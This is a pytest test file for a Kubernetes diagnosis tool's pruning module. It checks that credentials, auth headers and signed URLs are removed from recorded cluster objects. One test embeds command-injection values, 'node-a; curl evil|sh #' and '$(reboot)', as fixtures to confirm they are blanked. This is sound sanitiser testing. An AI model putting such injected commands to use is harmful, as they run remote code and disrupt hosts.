"""Pruning: what a recording must not hold is gone, what diagnosis needs is still there."""

import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kubectl_netcheck.cluster.prune import CONFIGMAPS, pruned

CONTAINER = {
    "name": "agent",
    "image": "x:1",
    "args": ["--server=https://10.0.0.1:6443", "--token=hunter2", "--iface=eth0"],
    "env": [{"name": "PASSWORD", "value": "hunter2"}],
    "volumeMounts": [{"name": "secret"}],
}
META: dict[str, Any] = {
    "name": "p",
    "namespace": "kube-system",
    "managedFields": [{"manager": "m"}],
    "annotations": {
        "kubectl.kubernetes.io/last-applied-configuration": "{}",
        "server": "https://10.0.0.1:6443",
        "flannel.alpha.coreos.com/backend-type": "vxlan",
    },
}


def text(resource: str, raw: dict[str, Any]) -> str:
    return json.dumps(pruned(resource, raw))


def test_pods_lose_arguments_and_environment() -> None:
    raw = {
        "metadata": META,
        "spec": {"nodeName": "a", "hostNetwork": True, "containers": [CONTAINER]},
        "status": {
            "phase": "Running",
            "containerStatuses": [{"name": "agent", "ready": True, "containerID": "c://1"}],
        },
    }
    found = pruned("pods", raw)
    assert found["spec"] == {
        "nodeName": "a",
        "hostNetwork": True,
        "containers": [{"name": "agent"}],
    }
    assert found["status"]["containerStatuses"] == [{"name": "agent", "ready": True}]
    assert found["metadata"]["annotations"] == {"flannel.alpha.coreos.com/backend-type": "vxlan"}
    assert "managedFields" not in found["metadata"]


def test_a_users_pod_keeps_place_and_state_only() -> None:
    raw = {"metadata": {**META, "namespace": "shop", "labels": {"app": "x"}}, "spec": {}}
    assert set(pruned("pods", raw)["metadata"]) == {"name", "namespace", "labels"}


def test_what_a_program_wrote_as_it_ended_is_not_kept() -> None:
    ended = {"terminated": {"reason": "Error", "exitCode": 1, "message": "password is hunter2"}}
    waits = {"waiting": {"reason": "CrashLoopBackOff", "message": "back-off"}}
    raw = {
        "metadata": {**META, "namespace": "shop"},
        "status": {
            "containerStatuses": [{"name": "app", "state": waits, "lastState": ended}],
            "initContainerStatuses": [{"name": "init", "state": ended}],
        },
    }
    status = pruned("pods", raw)["status"]
    assert status["containerStatuses"][0]["state"] == waits
    assert status["containerStatuses"][0]["lastState"]["terminated"]["reason"] == "Error"
    assert status["initContainerStatuses"][0]["state"]["terminated"]["exitCode"] == 1
    assert "hunter2" not in json.dumps(status)
    assert ended["terminated"]["message"], "the object itself is left as it is"


@pytest.mark.parametrize("resource", ["ingresses", "services"])
def test_a_controllers_settings_are_not_kept(resource: str) -> None:
    snippet = 'proxy_set_header Authorization "Basic aHVudGVyMg==";'
    marks = {
        "kubernetes.io/ingress.class": "nginx",
        "nginx.ingress.kubernetes.io/configuration-snippet": snippet,
    }
    found = pruned(resource, {"metadata": {"name": "shop", "annotations": marks}, "spec": {}})
    assert found["metadata"]["annotations"] == {"kubernetes.io/ingress.class": "nginx"}


#: Arguments that hold a secret, in one item or two, and what is kept of them.
SECRETS = [
    ["--token", "hunter2"],
    ["--token=hunter2"],
    ["--passphrase=hunter2"],
    ["--passphrase", "hunter2"],
    ["--basic-auth", "me:hunter2"],
    ["--header", "Authorization: Bearer hunter2"],
    ["-p", "hunter2"],
    ["sh", "-c", "login --with hunter2"],
    ["--iface=http://me:hunter2@eth0"],
    ["--config", "{psk: hunter2}"],
    ["hunter2"],
]


@pytest.mark.parametrize("words", SECRETS, ids=" ".join)
@pytest.mark.parametrize("namespace", ["kube-system", "shop"])
@pytest.mark.parametrize("part", ["args", "command"])
def test_no_argument_keeps_a_secret(words: list[str], namespace: str, part: str) -> None:
    container = {**CONTAINER, part: [*words, "--ip-masq"]}
    spec = {"template": {"spec": {"containers": [container]}}}
    raw = {"metadata": {**META, "namespace": namespace}, "spec": spec}
    assert "hunter2" not in text("daemonsets", raw)
    assert ("--ip-masq" in text("daemonsets", raw)) == (namespace == "kube-system")


def test_daemonsets_keep_their_network_settings() -> None:
    words = ["--iface=eth0", "--ip-masq", "--cluster-cidr", "10.0.0.0/16", "--v", "4", "--mtu"]
    container = {**CONTAINER, "args": words, "command": ["/opt/bin/flanneld", "--kube-subnet-mgr"]}
    raw = {"metadata": META, "spec": {"template": {"spec": {"containers": [container]}}}}
    kept = pruned("daemonsets", raw)["spec"]["template"]["spec"]["containers"][0]
    assert kept["args"] == ["--iface=eth0", "--ip-masq", "--cluster-cidr", "10.0.0.0/16", "--mtu"]
    assert kept["command"] == ["--kube-subnet-mgr"]
    assert "env" not in kept


def test_a_users_daemonset_keeps_place_and_state_only() -> None:
    marks = {"annotations": {"vault": "hunter2"}, "labels": {"app": "x"}}
    spec = {"selector": {"matchLabels": {"app": "x"}}, "template": {"metadata": marks, "spec": {}}}
    raw = {
        "metadata": {**META, **marks, "namespace": "shop"},
        "spec": spec,
        "status": {"numberReady": 2},
    }
    found = pruned("daemonsets", raw)
    assert set(found["metadata"]) == {"name", "namespace", "labels"}
    assert found["status"] == {"numberReady": 2}
    assert found["spec"]["selector"] == spec["selector"]
    assert "hunter2" not in json.dumps(found)


@pytest.mark.parametrize(
    "value",
    [
        '["agent","--token","hunter2"]',
        "Authorization: Bearer hunter2",
        '{"Authorization": "Basic hunter2"}',
        "login with bearer hunter2",
        "passphrase: hunter2",
    ],
)
def test_a_nodes_annotations_keep_no_secret(value: str) -> None:
    marks = {"k3s.io/node-args": value, "flannel.alpha.coreos.com/backend-type": "vxlan"}
    kept = pruned("nodes", {"metadata": {"name": "a", "annotations": marks}})["metadata"]
    assert "hunter2" not in json.dumps(kept)
    assert kept["annotations"]["flannel.alpha.coreos.com/backend-type"] == "vxlan"
    if value.startswith(("[", "{")):
        json.loads(kept["annotations"]["k3s.io/node-args"])


SERVER, BUCKET = "https://api.prod.example:6443", "https://bucket.example/layer"
#: Where an object holds a sentence of others: a resource, and the object with ``{}`` in its place.
SENTENCES: list[tuple[str, dict[str, Any]]] = [
    ("events", {"metadata": {"name": "e"}, "message": "{}"}),
    ("events", {"metadata": {"name": "e"}, "note": "{}"}),
    ("pods", {"metadata": META, "status": {"message": "{}"}}),
    ("pods", {"metadata": META, "status": {"conditions": [{"type": "Ready", "message": "{}"}]}}),
    (
        "pods",
        {
            "metadata": {"name": "web", "namespace": "shop"},
            "status": {
                "containerStatuses": [
                    {"state": {"waiting": {"reason": "ErrImagePull", "message": "{}"}}}
                ]
            },
        },
    ),
    ("nodes", {"metadata": META, "status": {"conditions": [{"message": "{}"}]}}),
    ("deployments", {"metadata": META, "status": {"conditions": [{"message": "{}"}]}}),
]


@pytest.mark.parametrize(("resource", "raw"), SENTENCES)
@pytest.mark.parametrize(
    ("said", "kept"),
    [
        (
            f'plugin type="calico" failed (add): Get "{SERVER}/apis?timeout=10s": dial tcp '
            "192.0.2.7:6443: i/o timeout",
            'plugin type="calico" failed (add): Get "…": dial tcp 192.0.2.7:6443: i/o timeout',
        ),
        (f"Get {SERVER}/version: EOF", "Get … EOF"),
        (
            f'failed to do request: Head "{BUCKET}?X-Sign=a,b&key=hunter2": 403 Forbidden',
            'failed to do request: Head "…": 403 Forbidden',
        ),
        ('sent "Authorization: Bearer hunter2": got 401', 'sent "Authorization: …": got 401'),
        (
            "dial unix:///run/multus/multus.sock: no such file",
            "dial unix:///run/multus/multus.sock: no such file",
        ),
    ],
    ids=["quoted", "bare", "signed", "header", "socket"],
)
def test_no_sentence_keeps_a_url_or_a_login(
    resource: str, raw: dict[str, Any], said: str, kept: str
) -> None:
    text = json.dumps(raw)
    assert pruned(resource, _saying(text, said)) == pruned(resource, _saying(text, kept))
    assert json.dumps(kept) in json.dumps(pruned(resource, _saying(text, said)))


def _saying(text: str, said: str) -> dict[str, Any]:
    found: dict[str, Any] = json.loads(text.replace('"{}"', json.dumps(said)))
    return found


def test_an_event_names_no_host_that_a_shell_would_obey() -> None:
    raw = {
        "metadata": {"name": "e", "namespace": "shop"},
        "source": {"host": "node-a; curl evil|sh #"},
        "involvedObject": {"kind": "Node", "name": "$(reboot)"},
        "reportingInstance": "node-a",
    }
    kept = pruned("events", raw)
    assert kept["source"] == {"host": ""}
    assert kept["involvedObject"] == {"kind": "Node", "name": ""}
    assert kept["reportingInstance"] == "node-a"


def test_configmaps_keep_network_settings_only() -> None:
    raw = {
        "metadata": {"name": "kube-proxy"},
        "data": {"config.conf": "mode: nftables", "kubeconfig.conf": "server: https://x"},
    }
    assert pruned("configmaps", raw)["data"] == {"config.conf": "mode: nftables"}
    assert "data" not in pruned("configmaps", {"metadata": {"name": "mine"}, "data": {"a": "b"}})


def test_json_settings_stay_json() -> None:
    net = '{"Network": "10.244.0.0/16", "Backend": {"Type": "ipsec", "PSK": "hunter2"}}'
    raw = {"metadata": {"name": "kube-flannel-cfg"}, "data": {"net-conf.json": net}}
    kept = json.loads(pruned("configmaps", raw)["data"]["net-conf.json"])
    assert kept == {"Network": "10.244.0.0/16", "Backend": {"Type": "ipsec", "PSK": "…"}}


def test_nodes_lose_their_image_lists() -> None:
    raw = {"metadata": META, "status": {"images": [{}] * 50, "addresses": [{"address": "1"}]}}
    assert pruned("nodes", raw)["status"] == {"addresses": [{"address": "1"}]}


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=4),
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(
            st.sampled_from(
                [
                    "metadata",
                    "spec",
                    "status",
                    "containers",
                    "template",
                    "annotations",
                    "data",
                    "env",
                ]
            ),
            inner,
        )
    ),
    max_leaves=12,
)


@given(
    st.sampled_from(["pods", "nodes", "daemonsets", "configmaps", "events"]),
    st.dictionaries(st.sampled_from(["metadata", "spec", "status", "data"]), JSON),
)
def test_no_object_is_too_strange(resource: str, raw: dict[str, Any]) -> None:
    json.dumps(pruned(resource, raw))


def test_every_known_configmap_has_a_pattern_that_matches_something() -> None:
    assert CONFIGMAPS["cilium-config"].fullmatch("enable-ipv4")
    assert not CONFIGMAPS["cilium-config"].fullmatch("k8s-api-server")
    assert not CONFIGMAPS["kube-proxy"].fullmatch("kubeconfig.conf")
